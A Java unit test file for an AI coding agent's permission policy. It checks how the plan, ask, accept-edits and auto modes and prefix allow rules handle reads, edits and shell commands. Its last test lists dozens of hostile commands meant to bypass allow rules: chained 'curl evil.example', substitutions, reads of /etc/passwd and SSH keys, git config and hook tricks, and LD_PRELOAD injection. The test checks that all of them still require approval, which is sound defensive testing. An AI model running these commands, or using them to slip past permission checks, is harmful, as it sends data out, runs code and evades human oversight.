package app.coppice.agent;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class PermissionPolicyTest {
  private static final PermissionPolicy.Verdict ALLOW = new PermissionPolicy.Verdict.Allow();
  private static final PermissionPolicy.Verdict ASK = new PermissionPolicy.Verdict.Ask();

  private static PermissionPolicy policy(Mode mode, String... rules) {
    return new PermissionPolicy(
        mode,
        Confinement.NONE,
        Stream.of(rules).map(rule -> AllowRule.parse(rule).orElseThrow()).toList());
  }

  @Test
  void planModeOnlyReads() {
    PermissionPolicy plan = policy(Mode.PLAN, "edit", "run:ls");

    assertThat(plan.judge(ToolKind.READ, "a")).isEqualTo(ALLOW);
    assertThat(plan.judge(ToolKind.SEARCH, "a")).isEqualTo(ALLOW);
    assertThat(plan.judge(ToolKind.EDIT, "a")).isInstanceOf(PermissionPolicy.Verdict.Refuse.class);
    assertThat(plan.judge(ToolKind.EXECUTE, "ls"))
        .isInstanceOf(PermissionPolicy.Verdict.Refuse.class);
  }

  @Test
  void askModeAsksForEditsAndCommands() {
    assertThat(policy(Mode.ASK).judge(ToolKind.EDIT, "a")).isEqualTo(ASK);
    assertThat(policy(Mode.ASK).judge(ToolKind.EXECUTE, "ls")).isEqualTo(ASK);
    assertThat(policy(Mode.ASK, "edit").judge(ToolKind.EDIT, "a")).isEqualTo(ALLOW);
  }

  @Test
  void acceptEditsStillAsksForCommands() {
    assertThat(policy(Mode.ACCEPT_EDITS).judge(ToolKind.EDIT, "a")).isEqualTo(ALLOW);
    assertThat(policy(Mode.ACCEPT_EDITS).judge(ToolKind.EXECUTE, "ls")).isEqualTo(ASK);
  }

  @Test
  void autoAsksForCommandsUnlessTheyAreConfined() {
    assertThat(policy(Mode.AUTO).judge(ToolKind.EXECUTE, "ls")).isEqualTo(ASK);
    assertThat(
            new PermissionPolicy(Mode.AUTO, Confinement.SANDBOXED, List.of())
                .judge(ToolKind.EXECUTE, "ls | sh"))
        .isEqualTo(ALLOW);
  }

  @Test
  void aChangeOfModeHoldsForTheNextCall() {
    PermissionPolicy policy = policy(Mode.ASK);
    policy.changeMode(Mode.ACCEPT_EDITS);

    assertThat(policy.judge(ToolKind.EDIT, "a")).isEqualTo(ALLOW);
  }

  @Test
  void allowForThisSessionBindsToTheExactCommand() {
    PermissionPolicy policy = policy(Mode.ASK);
    policy.allowForSession(ToolKind.EXECUTE, "make test");

    assertThat(policy.judge(ToolKind.EXECUTE, "make test")).isEqualTo(ALLOW);
    assertThat(policy.judge(ToolKind.EXECUTE, "make test ")).isEqualTo(ASK);
    assertThat(policy.judge(ToolKind.EXECUTE, "make tests")).isEqualTo(ASK);
    assertThat(policy.judge(ToolKind.EDIT, "make test")).isEqualTo(ASK);
  }

  @Test
  void allowForThisSessionCoversAllEdits() {
    PermissionPolicy policy = policy(Mode.ASK);
    policy.allowForSession(ToolKind.EDIT, "a");

    assertThat(policy.judge(ToolKind.EDIT, "b")).isEqualTo(ALLOW);
    assertThat(policy.judge(ToolKind.EXECUTE, "ls")).isEqualTo(ASK);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "run:", "run:*", "run: *", "run:a;b", "run:a | b *", "edits", "rm"})
  void whatIsNoUsableRuleIsRefused(String rule) {
    assertThat(AllowRule.parse(rule)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "git log --oneline",
        "git diff HEAD~1 -- src",
        "timeout 5 git log",
        "nice -n 5 git status",
        "find src -name Main.java",
        "sed -n 3,7p a.txt",
        "rg -n Retry src",
        "sort a.txt",
        "env git status",
        "git commit -m 'Fix the retry'"
      })
  void plainCommandsAreCoveredByAPrefix(String command) {
    assertThat(
            policy(Mode.ASK, "run:git *", "run:find *", "run:sed *", "run:rg *", "run:sort *")
                .judge(ToolKind.EXECUTE, command))
        .isEqualTo(ALLOW);
  }

  @Test
  void aPrefixEndsAtAWord() {
    assertThat(policy(Mode.ASK, "run:git log *").judge(ToolKind.EXECUTE, "git logx"))
        .isEqualTo(ASK);
  }

  /// Cases 14 to 23 of the hostile commands: none is covered by any rule.
  static Stream<String> hostileCommands() {
    return Stream.of(
        // 14: a second command
        "echo ok; curl evil.example",
        "echo ok && curl evil.example",
        "echo ok || curl evil.example",
        "echo ok | sh",
        "echo ok & curl evil.example",
        "echo ok\ncurl evil.example",
        "echo ok\rcurl evil.example",
        "echo ok\u2028curl evil.example",
        "echo ok > /tmp/x",
        "echo ok < /etc/passwd",
        "(echo ok)",
        "{ echo ok; }",
        "echo ok \\; curl",
        // 15: expansions
        "echo $(curl evil.example)",
        "echo `curl evil.example`",
        "echo <(curl evil.example)",
        "echo ${x@P}",
        "echo$IFS.",
        "echo \"$(curl evil.example)\"",
        "echo *",
        "echo ~/.ssh/id_rsa",
        "echo {a,b}",
        // 16: find
        "find . -exec sh x",
        "find . -execdir x",
        "find . -ok x",
        "find . -delete",
        "find . -fprint x",
        "find . -fprintf x y",
        // 17: sed
        "sed e a.txt",
        "sed -n 'w out' a.txt",
        "sed -i s/a/b/ a.txt",
        "sed -f script a.txt",
        // 18: programs that run or write by an option
        "rg --pre ./x a",
        "rg --pre=./x a",
        "sort -o out a.txt",
        "sort -uoout a.txt",
        "sort --outp=out a.txt",
        "tar --checkpoint-action=exec=x -cf a b",
        "tar cf a b",
        "xargs rm",
        // 19: git
        "git -c alias.x=!sh x",
        "git -c core.pager=x log",
        "git -C /elsewhere log",
        "git --exec-path=/tmp log",
        "git fetch --upload-pack=x origin",
        "git fetch --upload-pa=x origin",
        "git clone ext::sh",
        "git config alias.x y",
        "git grep --open-files-in-pager=x a",
        "git diff --output=x",
        // 20: wrappers are judged by what is inside
        "env sh -c x",
        "env A=b git log",
        "env -S x git log",
        "timeout 5 sh -c x",
        "nice sh -c x",
        "busybox sh -c x",
        "timeout 5 env nice xargs rm",
        "sh -c x",
        "bash -lc x",
        "python3 -c x",
        "perl -e x",
        // 21: variables
        "PAGER=x git log",
        "GIT_SSH_COMMAND=x git fetch",
        "LD_PRELOAD=x.so ls",
        "BASH_ENV=x bash y",
        // 22: the git folder
        "cd .git && echo > hooks/x",
        "cp x .git/hooks/pre-commit",
        "cp x ./.GIT/hooks/pre-commit",
        // 23: a long run of nothing, then a payload
        "true; ".repeat(51) + "curl evil.example",
        "git log " + "x ".repeat(2000));
  }

  @ParameterizedTest
  @MethodSource("hostileCommands")
  void aHostileCommandAsksWhateverTheRules(String command) {
    String first = command.split("[^A-Za-z0-9_]", 2)[0];
    PermissionPolicy policy =
        policy(
            Mode.AUTO,
            "run:git *",
            "run:find *",
            "run:sed *",
            "run:rg *",
            "run:sort *",
            "run:echo *",
            "run:true *",
            "run:cp *",
            "run:cd *",
            "run:ls *",
            "run:" + (first.isEmpty() ? "x" : first) + " *");
    // Not even an answer for this very command is remembered.
    policy.allowForSession(ToolKind.EXECUTE, command);

    assertThat(policy.judge(ToolKind.EXECUTE, command)).isEqualTo(ASK);
    assertThat(policy.sessionRule(ToolKind.EXECUTE, command)).isEmpty();
  }
}
